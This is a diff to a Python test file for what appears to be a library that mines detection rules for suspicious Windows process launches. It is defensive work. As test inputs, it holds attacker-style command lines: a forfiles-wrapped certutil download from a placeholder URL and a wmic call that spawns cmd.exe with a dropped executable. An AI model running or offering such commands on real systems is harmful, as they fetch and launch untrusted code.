@@ -7,9 +7,12 @@ from typing import Any
 import polars as pl
 import pytest
 
+from longtail.detections.evasions import Start
 from longtail.detections.generalise import Cluster, Deed, clusters
 from longtail.detections.legitimate import STARTS, Fleet, fleet
+from longtail.detections.meanings import GENERAL
 from longtail.detections.mining import Mined, mined
+from longtail.detections.neutral import neutral
 from longtail.detections.predicates import EVENT, conjunction, lowered
 from longtail.detections.proof import lawful, proof, status
 from longtail.detections.rules import Rule, rule_id
@@ -117,6 +120,8 @@ def test_a_renamed_program_is_not_the_program() -> None:
     (found,), _, _ = made([deed(line, "C:\\Users\\Public\\x.exe")], quiet())
     assert fires(found, line.replace("x.exe", "other.exe"), "D:\\other.exe")
     assert not fires(found, line, S32 + "certutil.exe")
+    assert not fires(found, "cmd /c d.exe " + line, S32 + "cmd.exe"), "d.exe starts as a process of its own"
+    assert not fires(found, 'forfiles /c "certutil -urlcache -f http://a/b c"', S32 + "forfiles.exe")
 
 
 def test_ways_apart_become_rules_apart() -> None:
@@ -142,6 +147,21 @@ def test_status_follows_evidence(hosts: int, tenants: int, of_hosts: int, expect
     assert status(found, proof(found, lawful(of_fleet))) == expected
 
 
+def test_what_was_held_against_nothing_is_not_called_precise() -> None:
+    (rule,) = mined([object_of(ATTACK)], table()).rules
+    assert rule.status == "experimental" and rule.proof.whole.of_host_days == 0
+    assert "held against no lawful use at all" in rule.description
+    assert "too little lawful use to call it precise" in mine(hosts=40).rules[0].description
+    assert "too little" not in mine().rules[0].description
+
+
+def test_a_file_of_one_letter_is_no_word_of_a_rule() -> None:
+    """Rules have words of one letter, as in ``cmd.exe -a``; a file called so belongs to the instance all the same."""
+    logic = [row.predicate for row in GENERAL if row.predicate.name == "inner_shell"]
+    told = neutral(Start(S32 + "wmic.exe", 'wmic process call create "cmd.exe -a C:\\Users\\Public\\a.exe"'), logic)
+    assert "a.exe" not in told.command_line and "cmd.exe -a C:\\Users\\Public\\" in told.command_line
+
+
 def object_of(line: str, **changes: Any) -> dict[str, Any]:
     told = {
         "id": "1",
@@ -156,10 +176,10 @@ def object_of(line: str, **changes: Any) -> dict[str, Any]:
     return {**told, **changes, "executions": [execution]}
 
 
-def mine(existing: str = "") -> Mined:
+def mine(existing: str = "", hosts: int = 400) -> Mined:
     rules = parsed(existing, "existing").rules if existing else ()
     known = [start(host, "bitsadmin /list", days=1) for host in range(4)]
-    return mined([object_of(ATTACK)], table(*quiet(), *known), rules)
+    return mined([object_of(ATTACK)], table(*quiet(hosts), *known), rules)
 
 
 def test_a_rules_file_names_no_victim_and_reads_back() -> None:
